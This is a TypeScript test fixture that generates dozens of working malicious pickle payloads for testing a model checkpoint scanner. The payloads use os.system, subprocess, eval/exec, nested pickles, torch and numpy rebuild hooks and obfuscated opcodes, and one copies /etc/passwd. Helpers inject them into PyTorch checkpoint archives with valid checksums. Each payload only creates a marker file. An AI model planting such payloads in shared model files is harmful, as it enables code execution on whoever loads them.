/**
 * Payloads that work: unpickled by Python without weights_only, each makes a file at the path it is given (or beside it).
 * By family of trick, as pickle opcodes that leave one value; and ways to put them into a checkpoint's files.
 */
import { bytes, pickle, recordsOf, text, torchEntries, torchZip, zip } from './fixtures';

export interface Payload {
  readonly family: string;
  readonly name: string;
  /** Opcodes of protocols up to 4 that leave one value on the stack. */
  readonly opcodes: Buffer;
}

/** One pushed value: strings as unicode, numbers as INT, buffers as the opcodes that they are. */
type Argument = string | number | Buffer;

function pushed(value: Argument): Buffer {
  if (typeof value === 'string') return text(value);
  return typeof value === 'number' ? pickle(`I${value}\n`) : value;
}

function named(module: string, name: string): Buffer {
  return pickle(`c${module}\n${name}\n`);
}

function calling(callable: Buffer, ...args: Argument[]): Buffer {
  return pickle(callable, '(', ...args.map(pushed), 'tR');
}

const call = (module: string, name: string, ...args: Argument[]): Buffer => calling(named(module, name), ...args);
const tuple = (...values: Argument[]): Buffer => pickle('(', ...values.map(pushed), 't');
const list = (...values: Argument[]): Buffer => pickle('](', ...values.map(pushed), 'e');
const whole = (opcodes: Buffer): Buffer => pickle('\x80\x02', opcodes, '.');
const NONE = pickle('N');
const dictionary = pickle('}');

/** Every payload, made to leave its trace at `marker` (an absolute path without quotes). */
export function payloadsFor(marker: string): Payload[] {
  const touch = `touch '${marker}'`;
  const code = `open('${marker}', 'w').close()`;
  const system = call('os', 'system', touch);
  const evil = whole(system);
  const archive = torchZip(evil);
  const path = call('pathlib', 'PosixPath', marker);
  const families: Record<string, Record<string, Buffer>> = {
    commands: {
      'os.system': system,
      'posix.system': call('posix', 'system', touch),
      'os.popen': calling(call('builtins', 'getattr', call('os', 'popen', touch), 'read')),
      'os.spawnlp': call('os', 'spawnlp', 0, 'touch', 'touch', marker),
      'subprocess.Popen': call('subprocess', 'Popen', list('touch', marker)),
      'subprocess.call': call('subprocess', 'call', list('touch', marker)),
      'subprocess.check_output': call('subprocess', 'check_output', list('touch', marker)),
      'subprocess.getoutput': call('subprocess', 'getoutput', touch),
      'pty.spawn': call('pty', 'spawn', list('touch', marker)),
      'asyncio’s subprocess through getattr': calling(
        call('builtins', 'getattr', call('builtins', '__import__', 'os'), 'system'),
        touch,
      ),
    },
    'code as text': {
      'builtins.eval': call('builtins', 'eval', code),
      'builtins.exec': call('builtins', 'exec', code),
      '__builtin__.eval': call('__builtin__', 'eval', code),
      'exec of compiled code': call('builtins', 'exec', call('builtins', 'compile', code, 'x', 'exec')),
      'timeit.timeit': call(
        'timeit',
        'timeit',
        code,
        'pass',
        call('builtins', 'eval', 'None or __import__("time").perf_counter'),
        1,
      ),
      'cProfile.run': call('cProfile', 'run', code, `${marker}.profile`),
      'profile.run': call('profile', 'run', code, `${marker}.profile`),
      'numpy.testing’s runstring': call('numpy.testing._private.utils', 'runstring', code, dictionary),
      'code.InteractiveInterpreter': calling(
        call('builtins', 'getattr', call('code', 'InteractiveInterpreter'), 'runsource'),
        code,
      ),
      'logging.config’s factory': call(
        'builtins',
        'eval',
        `__import__('logging.config').config.dictConfig({'version':1,'handlers':{'x':{'class':'logging.FileHandler','filename':'${marker}'}}})`,
      ),
    },
    'files without code': {
      'builtins.open': call('builtins', 'open', marker, 'w'),
      'io.open': call('io', 'open', marker, 'w'),
      '_io.FileIO': call('_io', 'FileIO', marker, 'w'),
      'codecs.open': call('codecs', 'open', marker, 'w'),
      'os.open': call('os', 'open', marker, 0o101),
      'os.mkdir': call('os', 'mkdir', marker),
      'os.symlink': call('os', 'symlink', '/', marker),
      'shutil.copyfile': call('shutil', 'copyfile', '/etc/passwd', marker),
      'logging.FileHandler': call('logging', 'FileHandler', marker),
      'sqlite3.connect': calling(
        call('builtins', 'getattr', call('sqlite3', 'connect', marker), 'execute'),
        'create table x (y)',
      ),
      'gzip.open': call('gzip', 'open', marker, 'wb'),
      'zipfile.ZipFile': call('zipfile', 'ZipFile', marker, 'w'),
      'tempfile.mkdtemp': call('tempfile', 'mkdtemp', 'x', 'x', call('os.path', 'dirname', marker)),
      'numpy.save': call('numpy', 'save', marker, 1),
      'torch.save': call('torch', 'save', 1, marker),
      'pathlib’s touch': calling(call('builtins', 'getattr', path, 'touch')),
    },
    'calls in calls': {
      'functools.partial': calling(call('functools', 'partial', named('os', 'system'), touch)),
      'functools.reduce': call('functools', 'reduce', named('os', 'open'), list(marker, 0o101)),
      'operator.methodcaller': calling(call('operator', 'methodcaller', 'touch'), path),
      'operator.attrgetter': calling(
        calling(call('operator', 'attrgetter', 'system'), call('importlib', 'import_module', 'os')),
        touch,
      ),
      'a map that a list uses up': call(
        'builtins',
        'list',
        call('builtins', 'map', named('os', 'system'), list(touch)),
      ),
      'collections.deque of a map': call(
        'collections',
        'deque',
        call('builtins', 'map', named('os', 'mkdir'), list(marker)),
      ),
      'an OrderedDict of what a call gives': pickle(call('collections', 'OrderedDict'), text('x'), system, 's'),
    },
    'a pickle in a pickle': {
      'pickle.loads': call('pickle', 'loads', pickle(bytes(evil))),
      '_pickle.loads': call('_pickle', 'loads', pickle(bytes(evil))),
      'pickle.loads twice': call(
        'pickle',
        'loads',
        pickle(bytes(whole(call('_pickle', 'loads', pickle(bytes(evil)))))),
      ),
      'pickle.loads of encoded text': call(
        'pickle',
        'loads',
        call('_codecs', 'encode', evil.toString('latin1'), 'latin1'),
      ),
      'pickle.Unpickler': calling(
        call('builtins', 'getattr', call('pickle', 'Unpickler', call('io', 'BytesIO', pickle(bytes(evil)))), 'load'),
      ),
      'torch.storage._load_from_bytes': call('torch.storage', '_load_from_bytes', pickle(bytes(archive))),
      'torch.load': call(
        'functools',
        'partial',
        call(
          'builtins',
          'eval',
          `__import__('torch').load(__import__('io').BytesIO(bytes.fromhex('${archive.toString('hex')}')), weights_only=False)`,
        ),
      ),
    },
    'rebuilding by torch and numpy': {
      _rebuild_from_type_v2: call(
        'torch._tensor',
        '_rebuild_from_type_v2',
        named('os', 'system'),
        named('builtins', 'int'),
        tuple(touch),
        NONE,
      ),
      '_rebuild_tensor_v2’s hooks': call('torch._utils', '_rebuild_parameter', system, pickle('\x89'), dictionary),
      'a parameter’s state': call(
        'torch._utils',
        '_rebuild_parameter_with_state',
        system,
        pickle('\x89'),
        dictionary,
        NONE,
      ),
      'numpy’s _reconstruct': call('numpy._core.multiarray', '_reconstruct', system, tuple(0), text('b')),
      'numpy’s scalar': call('numpy._core.multiarray', 'scalar', call('numpy', 'dtype', 'O'), system),
      'numpy’s dtype': call('numpy', 'dtype', system),
      'copyreg’s _reconstructor': call('copyreg', '_reconstructor', system, named('builtins', 'object'), NONE),
      'torch.device': call('torch', 'device', system),
    },
    spelling: {
      INST: pickle('(', text(touch), 'ios\nsystem\n'),
      OBJ: pickle('(', named('os', 'system'), text(touch), 'o'),
      NEWOBJ: pickle(
        named('builtins', 'tuple'),
        tuple(pickle(named('builtins', 'map'), tuple(named('os', 'system'), list(touch)), '\x81')),
        '\x81',
      ),
      STACK_GLOBAL: pickle(text('os'), text('system'), '\x93', tuple(touch), 'R'),
      'STACK_GLOBAL of a computed name': pickle(
        text('os'),
        calling(call('builtins', 'getattr', text('metsys'), '__getitem__'), call('builtins', 'slice', NONE, NONE, -1)),
        '\x93',
        tuple(touch),
        'R',
      ),
      'called and dropped': pickle(system, '0N'),
      'as a key': pickle('}', system, 'Ns'),
      'in a set': pickle('\x8f(', system, '\x90'),
      'out of the memo': pickle(named('os', 'system'), 'q\xfa0h\xfa', tuple(touch), 'R'),
      'with the argument of another call': pickle(named('os', 'system'), tuple(call('builtins', 'str', touch)), 'R'),
    },
  };
  return Object.entries(families).flatMap(([family, tricks]) =>
    Object.entries(tricks).map(([name, opcodes]) => ({ family, name, opcodes })),
  );
}

/** The same archive with the payload as one more item of the dict that its data.pkl holds; every checksum is right. */
export function intoArchive(file: Buffer, payload: Payload): Buffer {
  const entries = [...recordsOf(file)].map(([name, { start, length }]) => {
    const data = file.subarray(start, start + length);
    return { name, data: name.endsWith('/data.pkl') ? intoDict(data, payload) : data };
  });
  return zip(entries);
}

function intoDict(data: Buffer, { opcodes }: Payload): Buffer {
  return pickle(data.subarray(0, -1), text('note'), opcodes, 's.');
}

const LEGACY_MAGIC = pickle('\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19.');
const LEGACY_PARTS = ['protocol', 'system', 'object', 'keys'] as const;

/** A file of before torch 1.6 with the payload in one of its pickles; `null` is such a file without any. */
export function legacyWith(payload: Payload | null, part: (typeof LEGACY_PARTS)[number] = 'object'): Buffer {
  const plain = { protocol: pickle('M\xe9\x03'), system: dictionary, object: dictionary, keys: pickle(']') };
  const parts = LEGACY_PARTS.map((name) => {
    if (payload === null || name !== part) return pickle('\x80\x02', plain[name], '.');
    if (name === 'object') return pickle('\x80\x02', intoDict(pickle('}.'), payload));
    return pickle('\x80\x02', payload.opcodes, '0', plain[name], '.');
  });
  return Buffer.concat([LEGACY_MAGIC, ...parts]);
}

/** The smallest torch file with the payload. */
export function archiveWith(payload: Payload): Buffer {
  return zip(torchEntries(intoDict(pickle('\x80\x02}.'), payload)));
}
